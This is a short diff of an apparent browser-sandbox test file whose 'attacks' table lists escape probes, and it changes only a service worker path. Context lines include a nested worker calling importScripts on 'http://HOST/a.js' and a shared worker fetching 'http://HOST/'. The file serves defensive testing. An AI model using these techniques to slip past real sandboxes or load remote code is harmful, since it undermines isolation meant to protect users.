@@ -61,7 +61,7 @@ const attacks = {
   },
   'a nested worker that imports': () => event(new Worker(blob('importScripts("http://HOST/a.js"); postMessage(1)')), 'message'),
   'a shared worker': async () => new SharedWorker(blob('fetch("http://HOST/")')),
-  'a service worker': async () => navigator.serviceWorker.register('SITE/_/harness.js'),
+  'a service worker': async () => navigator.serviceWorker.register('SITE/_/page.js'),
   'a notification': async () => Notification.permission === 'granted',
   'a message to the frame': async () => {
     for (const word of ['kept', 'here', { do: 'end', id: 1 }]) postMessage(word)
